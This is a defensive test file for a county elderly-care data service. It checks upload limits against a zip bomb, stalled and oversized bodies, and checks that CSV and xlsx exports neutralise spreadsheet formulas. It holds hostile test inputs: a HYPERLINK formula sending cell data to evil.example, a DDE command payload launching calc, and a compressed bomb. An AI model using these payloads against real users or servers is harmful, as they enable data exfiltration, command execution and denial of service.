import { request as httpRequest, type IncomingMessage } from 'node:http';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeSheet } from '../../src/modules/exchange/exchange.sheet.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { inlineCell, xlsxBomb } from '../support/zip-bomb.js';
import { CreateRectificationDocument, CreateTaskDocument } from '../graphql/generated/graphql.js';

// Issue 34: nothing one upload or download can break. One upload may not cost the
// server more than a bounded amount of memory and time, whatever the file holds;
// who may not import is refused before the file is read; downloads run no formulas
// and are kept by no cache.

const TIEFO = '511921104'; // 铁佛镇
const PINGBA = '511921104200'; // 平坝村 (铁佛镇)
const PERIOD = '2026-05';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

let app: TestApp;
let base: string;
let admin: string;
let township: string;
let viewer: string;
let staff: string;

/** Text a spreadsheet program would run, typed into the fields that exports carry. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';

beforeAll(async () => {
  app = await startTestApp();
  base = app.url.replace(/\/graphql$/, '');
  admin = await app.token('COUNTY_ADMIN', '511921');
  township = await app.token('TOWNSHIP_OPERATOR', TIEFO);
  viewer = await app.token('VIEWER', '511921');
  staff = await app.token('SECTION_STAFF', '511921', { section: '养老服务股' });
});
afterAll(() => app?.close());

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: { applied: number; unchanged: number; errors: { row: number | null; column: string | null; code: string; message: string; messageEn: string }[] };
}

async function upload(path: string, body: Buffer, token: string, type = XLSX): Promise<Answer> {
  const response = await fetch(`${base}${path}`, { method: 'POST', headers: { 'content-type': type, authorization: `Bearer ${token}` }, body });
  return { status: response.status, headers: Object.fromEntries(response.headers), body: (await response.json()) as Answer['body'] };
}

/**
 * An upload whose body is never finished: the headers (with `headers`), then
 * `sent` bytes, then nothing. Resolves with the answer, if one comes before
 * the body ends; the request is then abandoned.
 */
function unfinishedUpload(path: string, token: string, headers: Record<string, string>, sent: Buffer): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(base);
    const req = httpRequest(
      { host: hostname, port, path, method: 'POST', headers: { 'content-type': XLSX, authorization: `Bearer ${token}`, ...headers } },
      (res: IncomingMessage) => {
        let text = '';
        res.on('data', (chunk: Buffer) => (text += chunk.toString()));
        res.on('end', () => {
          req.destroy();
          resolve({ status: res.statusCode!, headers: res.headers, body: JSON.parse(text) as Answer['body'] });
        });
      },
    );
    req.on('error', (error) => reject(error));
    req.write(sent);
  });
}

/** Peak growth of this process's resident memory (the server runs in it) while `work` runs, in MB. */
async function peakGrowth<T>(work: () => Promise<T>): Promise<{ result: T; mb: number }> {
  const before = process.memoryUsage().rss;
  let peak = before;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
  try {
    const result = await work();
    return { result, mb: (Math.max(peak, process.memoryUsage().rss) - before) / 1e6 };
  } finally {
    clearInterval(timer);
  }
}

const timed = async <T>(work: Promise<T>) => {
  const started = performance.now();
  const result = await work;
  return { result, ms: performance.now() - started };
};

describe('upload bounds', () => {
  it('refuses a zip bomb (5,000,000 rows, half a gigabyte of XML in about 2 MB) within seconds and bounded memory; /healthz answers meanwhile', async () => {
    const bomb = xlsxBomb({
      header: `<row r="1">${inlineCell('A1', '区划代码')}${inlineCell('B1', '名称')}</row>`,
      row: `<row r="2">${inlineCell('A2', PINGBA)}${inlineCell('B2', '平坝村')}</row>`,
      times: 5_000_000,
    });
    expect(bomb.length).toBeLessThan(3_000_000);
    const { result, mb } = await peakGrowth(async () => {
      const uploads = [1, 2, 3].map(() => timed(upload(`/imports/observations?period=${PERIOD}`, bomb, admin)));
      const health = timed(fetch(`${base}/healthz`));
      return { uploads: await Promise.all(uploads), health: await health };
    });
    for (const { result: answer, ms } of result.uploads) {
      expect(answer.status).toBe(413);
      expect(answer.body).toEqual({
        applied: 0,
        unchanged: 0,
        errors: [expect.objectContaining({ row: null, code: 'UNPACKED_TOO_LARGE', message: '文件解压后超过 32 MB,一次导入读不了这么多数据,请分批导入' })],
      });
      expect(ms).toBeLessThan(5000);
    }
    expect(result.health.result.status).toBe(200);
    expect(result.health.ms).toBeLessThan(1000);
    expect(mb).toBeLessThan(200);
  });

  it('refuses a role that may not import before reading the body: a body that never ends still gets 403', async () => {
    const started = performance.now();
    const answers = await Promise.all([
      unfinishedUpload(`/imports/observations?period=${PERIOD}`, viewer, { 'content-length': String(5 * 1024 * 1024) }, Buffer.from('PK')),
      unfinishedUpload('/imports/facilities', viewer, { 'transfer-encoding': 'chunked' }, Buffer.from('2\r\nPK\r\n')),
      unfinishedUpload(`/imports/observations?period=${PERIOD}`, staff, { 'content-length': '1000' }, Buffer.from('PK')),
      unfinishedUpload('/imports/facilities', staff, { 'content-length': '1000' }, Buffer.from('PK')),
    ]);
    expect(performance.now() - started).toBeLessThan(5000);
    expect(answers.map((a) => [a.status, a.headers.connection, a.body.errors.map((e) => e.code)])).toEqual(Array(4).fill([403, 'close', ['FORBIDDEN']]));
    expect(answers[0].body.errors[0].message).toBe('您的角色（只读）不能导入统计数据');
    expect(answers[3].body.errors[0].message).toBe('您的角色（股室）不能导入服务站点');
    // A month missing is also known before the file is read.
    const noMonth = await unfinishedUpload('/imports/observations', township, { 'content-length': '1000' }, Buffer.from('PK'));
    expect([noMonth.status, noMonth.body.errors[0].code]).toEqual([400, 'BAD_PERIOD']);
  });

  it('refuses a file larger than 10 MB by its Content-Length before reading it, and one without a length as soon as 10 MB have arrived', async () => {
    const declared = await unfinishedUpload(
      `/imports/observations?period=${PERIOD}`,
      admin,
      { 'content-length': String(10 * 1024 * 1024 + 1) },
      Buffer.from('PK'),
    );
    expect(declared.status).toBe(413);
    expect(declared.headers.connection).toBe('close');
    expect(declared.body).toEqual({
      applied: 0,
      unchanged: 0,
      errors: [
        { row: null, column: null, code: 'PAYLOAD_TOO_LARGE', message: '文件超过 10 MB,请分批导入', messageEn: 'the file is larger than 10 MB; split it' },
      ],
    });
    // Chunked, no length: 11 MB streamed in 1 MB chunks; the answer comes after the 11th at the latest.
    const chunk = Buffer.alloc(1024 * 1024, 'a');
    const chunked = await fetch(`${base}/imports/facilities`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv', authorization: `Bearer ${admin}` },
      body: Readable.toWeb(Readable.from(Array.from({ length: 11 }, () => chunk))) as ReadableStream,
      duplex: 'half',
    });
    expect(chunked.status).toBe(413);
    expect(((await chunked.json()) as Answer['body']).errors[0].code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('answers a file of more than 5,000 rows with 413 and names the limit', async () => {
    const rows = Array.from({ length: 5001 }, () => [PINGBA, '平坝村', 1]);
    const result = await upload(
      `/imports/observations?period=${PERIOD}`,
      await writeSheet({ sheetName: 's', headers: ['区划代码', '名称', 'ORPHANS'], rows }, 'csv'),
      township,
      'text/csv',
    );
    expect(result.status).toBe(413);
    expect(result.body.errors).toEqual([expect.objectContaining({ code: 'TOO_MANY_ROWS', message: '文件超过 5000 行,一次最多导入 5000 行,请分批导入' })]);
  });

  it('answers a cell holding a NUL with 400 BAD_CHARACTER at its row and column, and writes nothing', async () => {
    const [before] = await app.orm.em.fork().getConnection().execute<{ n: number }[]>('select count(*)::int as n from facility');
    const file = Buffer.from(`名称,类别,区划代码,运营模式,状态,床位,在住\n平坝\u0000站,NURSING_HOME,${PINGBA},PUBLIC,PLANNED,1,0\n`);
    const result = await upload('/imports/facilities', file, township, 'text/csv');
    expect(result.status).toBe(400);
    expect(result.body.errors).toEqual([expect.objectContaining({ row: 2, column: '名称', code: 'BAD_CHARACTER' })]);
    const [after] = await app.orm.em.fork().getConnection().execute<{ n: number }[]>('select count(*)::int as n from facility');
    expect(after).toEqual(before);
  });

  it('still imports a normal file, for every role that may import', async () => {
    const village = await app.token('VILLAGE_OPERATOR', PINGBA);
    for (const token of [village, township, admin]) {
      const file = await writeSheet({ sheetName: 's', headers: ['区划代码', '名称', 'ORPHANS'], rows: [[PINGBA, '平坝村', 3]] }, 'xlsx');
      const result = await upload(`/imports/observations?period=${PERIOD}`, file, token);
      expect(result.status).toBe(200);
      expect(result.headers.connection).not.toBe('close');
      expect(result.body.errors).toEqual([]);
    }
  });
});

describe('downloads', () => {
  beforeAll(async () => {
    const task = await app.query(
      CreateTaskDocument,
      {
        input: {
          title: FORMULA,
          category: 'ELDERLY_CARE',
          area: '511921',
          ownerSection: '养老服务股',
          target: 10,
          unit: '所',
          startDate: '2026-01-01',
          deadline: '2026-05-20',
          assignments: [{ area: TIEFO, target: 10 }],
        },
      },
      { token: admin },
    );
    expect(task.createTask.userErrors).toEqual([]);
    const rect = await app.query(
      CreateRectificationDocument,
      {
        input: { finding: '+cmd|" /C calc"!A0', area: TIEFO, category: 'NEGLECT', responsiblePerson: '@张三', deadline: '2026-05-30', openedOn: '2026-05-10' },
      },
      { token: admin },
    );
    expect(rect.createRectification.userErrors).toEqual([]);
    const facilities = await writeSheet(
      {
        sheetName: 's',
        headers: ['名称', '类别', '区划代码', '运营模式', '状态', '床位', '在住', '运营方', '投运日期'],
        rows: [
          ['-平坝站', 'NURSING_HOME', PINGBA, 'PUBLIC_BUILT_PRIVATE_RUN', 'PLANNED', 10, 0, FORMULA, ''],
          ['铁佛互助点', 'NURSING_HOME', `${TIEFO}000`, 'PUBLIC', 'PLANNED', 5, 0, '-', ''],
        ],
      },
      'xlsx',
    );
    expect((await upload('/imports/facilities', facilities, township)).body).toEqual({ applied: 2, unchanged: 0, errors: [] });
  });

  const downloads = [
    `/exports/stats-table.FORMAT?parent=${TIEFO}&period=${PERIOD}`,
    `/exports/facilities.FORMAT?area=${TIEFO}`,
    `/exports/tasks.FORMAT?area=${TIEFO}&asOf=2026-06-30`,
    `/exports/rectifications.FORMAT?area=${TIEFO}&asOf=2026-06-30`,
    `/exports/monthly-report.FORMAT?month=${PERIOD}&area=${TIEFO}`,
    '/templates/observations.FORMAT',
    '/templates/facilities.FORMAT',
  ];

  const get = (path: string) => fetch(`${base}${path}`, { headers: { authorization: `Bearer ${township}` } });

  /** Every cell of a CSV as it stands in the file (read without undoing the escape). */
  async function rawCells(body: Buffer): Promise<string[]> {
    const workbook = new ExcelJS.Workbook();
    const sheet = await workbook.csv.read(Readable.from([body.toString('utf8').replace(/^\ufeff/, '')]), { map: (value: unknown) => value });
    const cells: string[] = [];
    sheet.eachRow((row) => (row.values as unknown[]).slice(1).forEach((value) => cells.push(String(value ?? ''))));
    return cells;
  }

  it('every CSV (exports, templates, the monthly report) neutralises text a spreadsheet would run; numbers stay numbers', async () => {
    const csvs = [...downloads.map((path) => path.replace('FORMAT', 'csv')), `/reports/monthly/${PERIOD}.csv?area=${TIEFO}`];
    const seen: string[] = [];
    for (const path of csvs) {
      const response = await get(path);
      expect(response.status, path).toBe(200);
      const cells = await rawCells(Buffer.from(await response.arrayBuffer()));
      const runnable = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      expect(runnable, path).toEqual([]);
      seen.push(...cells);
    }
    // The hostile texts were exported (escaped), in the tasks, rectifications, facilities and both monthly reports.
    expect(seen.filter((cell) => cell === `'${FORMULA}`).length).toBeGreaterThanOrEqual(4);
    expect(seen).toContain(`'+cmd|" /C calc"!A0`);
    expect(seen).toContain("'@张三");
    expect(seen).toContain("'-平坝站");
  });

  it('a facilities CSV export imports back unchanged (the import drops the apostrophe it added)', async () => {
    const exported = Buffer.from(await (await get(`/exports/facilities.csv?area=${TIEFO}`)).arrayBuffer());
    expect(await upload('/imports/facilities', exported, township, 'text/csv')).toMatchObject({ status: 200, body: { applied: 0, unchanged: 2, errors: [] } });
  });

  it('xlsx exports hold text as text cells, never formulas', async () => {
    for (const path of [
      `/exports/tasks.xlsx?area=${TIEFO}&asOf=2026-06-30`,
      `/exports/facilities.xlsx?area=${TIEFO}`,
      `/exports/monthly-report.xlsx?month=${PERIOD}&area=${TIEFO}`,
    ]) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(await (await get(path)).arrayBuffer()) as unknown as ExcelJS.Buffer);
      const formulas: string[] = [];
      const texts: string[] = [];
      workbook.worksheets[0].eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.address);
          if (cell.type === ExcelJS.ValueType.String) texts.push(String(cell.value));
        }),
      );
      expect(formulas, path).toEqual([]);
      expect(texts, path).toContain(FORMULA);
    }
  });

  it('every download is sent no-store and nosniff', async () => {
    const paths = [
      ...downloads.flatMap((path) => [path.replace('FORMAT', 'xlsx'), path.replace('FORMAT', 'csv')]),
      `/reports/monthly/${PERIOD}.csv?area=${TIEFO}`,
      `/reports/monthly/${PERIOD}.md?area=${TIEFO}`,
    ];
    for (const path of paths) {
      const response = await get(path);
      expect(response.status, path).toBe(200);
      expect([response.headers.get('cache-control'), response.headers.get('x-content-type-options')], path).toEqual(['no-store', 'nosniff']);
      expect(response.headers.get('content-disposition'), path).toMatch(/^(attachment|inline); filename="[\w.-]+"$/);
      await response.arrayBuffer();
    }
  });
});
